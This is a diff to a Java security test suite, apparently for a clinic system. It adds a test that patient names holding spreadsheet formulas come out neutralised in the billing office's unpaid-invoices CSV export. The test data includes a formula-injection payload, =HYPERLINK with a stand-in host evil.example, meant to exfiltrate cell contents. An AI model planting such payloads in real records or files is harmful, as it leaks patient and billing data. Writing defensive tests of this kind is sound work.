@@ -2,9 +2,17 @@ package health.mizan.attacks;
 
 import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import de.siegmar.fastcsv.reader.CsvReader;
+import de.siegmar.fastcsv.reader.CsvRecord;
+import health.mizan.sandbox.demo.Guest;
+import health.mizan.sandbox.demo.Visit;
+import health.mizan.testing.RawHttp.Answer;
 import java.io.IOException;
 import java.util.List;
+import java.util.Map;
+import java.util.UUID;
 
 /** Files that come in, and files that go out. */
 final class FileAttacks implements Surface {
@@ -53,7 +61,10 @@ final class FileAttacks implements Surface {
             attack.alsoAccepts(403, "not for patients to upload")
                     .send(upload("eicar.pdf", EICAR).as(attack.token("patientA")));
         });
-        to.unbound("UP-023", "nothing is exported as a spreadsheet or CSV yet");
+        to.live(
+                "UP-023",
+                "as the names of a patient who owes money, in the list that the office takes away; a tab begins no name",
+                FileAttacks::formulaInAName);
         to.byTest(
                 "UP-029",
                 "a payer's list of what it pays comes by message: told again it is one list, and one alarm",
@@ -64,6 +75,52 @@ final class FileAttacks implements Surface {
                 "no bank statement is taken in: told at every door through which files, messages and notices come, it moves"
                         + " nothing",
                 FileAttacks::bankStatement);
+    }
+
+    private static void formulaInAName(Attack attack) throws IOException {
+        attack.changes();
+        Clinic clinic = attack.clinic();
+        assertThatThrownBy(() -> named(clinic, "\t=1+1", "\t=1+1")).hasMessageContaining("got 422");
+        Guest guest = named(clinic, "=1+1", "=HYPERLINK(\"http://evil.example/\"&A1)");
+        Visit visit = Visit.begin(clinic.places, clinic.staff, guest, "DS-100");
+        visit.finish();
+        String number = visit.invoice("issued").path("number").asText();
+        String office = SessionAttacks.cookies(SessionAttacks.signedIn(attack, "biller"));
+        for (String language : new String[] {"en", "ar"}) {
+            Answer file = attack.send(Shot.get("/" + language + "/office/invoices.csv?state=unpaid")
+                    .header("Cookie", office));
+            assertThat(file.header("Content-Type")).startsWith("text/csv");
+            assertThat(file.header("Content-Disposition")).matches("attachment; filename=\"unpaid-[0-9-]+\\.csv\"");
+            assertThat(file.header("Cache-Control")).contains("no-store");
+            assertThat(cells(file.text())).noneMatch(cell -> cell.matches("(?s)[\\s\uFEFF]*[=+@\\t\\r-].*"));
+            assertThat(file.text()).contains(number).containsPattern("'[^\"]*=(1\\+1|HYPERLINK)");
+        }
+    }
+
+    private static List<String> cells(String csv) throws IOException {
+        try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(csv)) {
+            return reader.stream().flatMap(row -> row.getFields().stream()).toList();
+        }
+    }
+
+    private static Guest named(Clinic clinic, String latin, String arabic) {
+        Guest guest = new Guest("https://example.org/identifier/demo-iqama", "DEMO-2-" + UUID.randomUUID(), "");
+        clinic.staff
+                .desk()
+                .post(
+                        "/api/patients",
+                        Map.of(
+                                "patient",
+                                Map.of(
+                                        "name", Map.of("latin", latin, "arabic", arabic),
+                                        "birth", Map.of("date", "1986-11-02"),
+                                        "sex", "male",
+                                        "residency", "resident",
+                                        "identifiers",
+                                                List.of(Map.of("system", guest.system(), "value", guest.number()))),
+                                "registration",
+                                Map.of("facility", "RUH")));
+        return guest;
     }
 
     @Override
